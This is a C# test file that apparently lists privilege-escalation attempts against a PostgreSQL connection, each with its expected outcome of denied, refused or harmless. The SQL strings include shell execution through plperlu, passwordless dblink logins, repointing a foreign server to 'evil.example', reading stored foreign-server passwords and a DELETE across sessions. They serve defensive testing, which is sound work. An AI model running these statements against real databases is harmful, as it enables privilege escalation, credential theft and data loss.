using System.Collections.Immutable;
using static JitBot.Connectors.Tests.PostgreSql.Attacks.Outcome;
using static JitBot.Connectors.Tests.PostgreSql.Attacks.Step;

namespace JitBot.Connectors.Tests.PostgreSql.Attacks;

/// <summary>The extensions dblink, postgres_fdw and pg_stat_statements are installed.</summary>
internal static class Extensions
{
    private const string ToItself = "host=127.0.0.1 port={port} dbname={db} user={self} password={password}";

    public static readonly ImmutableArray<Attack> All =
    [
        new("extension.trusted", "Installs an extension that the server trusts: `CREATE EXTENSION hstore`", Denied, "CREATE EXTENSION hstore"),
        new("extension.untrusted", "Installs an extension that reaches files: `CREATE EXTENSION file_fdw`", Denied, "CREATE EXTENSION file_fdw"),
        new("extension.move", "Moves an extension: `ALTER EXTENSION … SET SCHEMA`", Denied, "ALTER EXTENSION dblink SET SCHEMA pay"),
        new("extension.load", "Loads a library into its session: `LOAD`", Denied, "LOAD 'dblink'"),
        new("extension.untrusted-language", "Runs a program in an untrusted language", new Refused("42704"), "DO LANGUAGE plperlu 'system(\"id\")'"),
        new("dblink.bot", "Logs in as JitBot from the server itself, without a password", new Refused("2F003"),
            "SELECT dblink_connect('host=127.0.0.1 port={port} dbname={db} user=jitbot')"),
        new("dblink.unchecked", "The same with the function that asks for no password", Denied,
            "SELECT dblink_connect_u('host=127.0.0.1 port={port} dbname={db} user=jitbot')"),
        new("dblink.server", "The same through a foreign server with a stored login", new Refused("42704"), "SELECT dblink_connect('legacy')"),
        new("dblink.itself", "Logs in as itself from the server itself, to hide a session behind the server's address",
            new Harmless("the session is the account's own and ends with it"),
            $"SELECT dblink_connect('kept', '{ToItself}')", Ended),
        new("dblink.read-only", "Writes past a read-only transaction by a second session of its own",
            new(new Harmless("it has no right to write")),
            "SET default_transaction_read_only = on",
            $"SELECT dblink_exec('{ToItself}', 'DELETE FROM public.employee', false)") { At = [Core.Targets.AccessLevel.Read] },
        new("fdw.server", "Makes a foreign server: `CREATE SERVER`", Denied, "CREATE SERVER mine FOREIGN DATA WRAPPER postgres_fdw"),
        new("fdw.mapping", "Gives itself a login on a foreign server: `CREATE USER MAPPING`", Denied,
            "CREATE USER MAPPING FOR {self} SERVER legacy OPTIONS (user 'hr', password_required 'false')"),
        new("fdw.table", "Makes a foreign table: `CREATE FOREIGN TABLE`", Denied, "CREATE FOREIGN TABLE public.mine (id int) SERVER legacy"),
        new("fdw.import", "Takes over a foreign schema: `IMPORT FOREIGN SCHEMA`", Denied, "IMPORT FOREIGN SCHEMA public FROM SERVER legacy INTO public"),
        new("fdw.options", "Points a foreign server to another address: `ALTER SERVER`", Denied, "ALTER SERVER legacy OPTIONS (SET host 'evil.example')"),
        new("fdw.passwords", "Reads stored passwords of foreign servers: `pg_user_mapping`", Denied, "SELECT umoptions FROM pg_user_mapping"),
        new("fdw.passwords-view", "The same by the view for everybody: `pg_user_mappings`", new Harmless("it shows no options of others"),
            "SELECT string_agg(umoptions::text, ' ') FROM pg_user_mappings") { Gained = "{seen} LIKE '%secret%'" },
    ];
}
